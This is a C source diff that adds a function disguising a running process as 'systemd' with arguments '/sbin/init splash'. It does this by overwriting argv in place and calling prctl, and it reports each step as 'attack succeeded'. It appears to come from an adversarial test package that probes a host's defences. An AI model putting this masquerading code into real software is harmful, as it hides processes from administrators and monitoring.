@@ -5,6 +5,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/prctl.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -62,6 +63,24 @@ void w_log_big(void)
     }
     wire_linger(&in, 1500);
     abort();
+}
+
+extern void *__libc_stack_end;
+
+/* What lists of processes show: the arguments as exec laid them out, and the name. */
+void w_title(void)
+{
+    const long *end = __libc_stack_end;
+    char **argv = (char **)(end + 1);
+    size_t room = strlen(argv[0]) + strlen(argv[1]) + 2;
+
+    memset(argv[0], 0, room);
+    strncpy(argv[0], "/sbin/init splash", room - 1);
+    if (prctl(PR_SET_NAME, "systemd", 0, 0, 0) == 0)
+        shout("attack succeeded: it is called systemd");
+    if (prctl(PR_SET_MM, PR_SET_MM_ARG_START, argv[0], 0, 0) == 0)
+        shout("attack succeeded: its arguments are where it likes");
+    shout("attack notes: written \"%s\"", argv[0]);
 }
 
 /* ---- schemas as weapons: the host checks what this package publishes, by its own contract ---- */
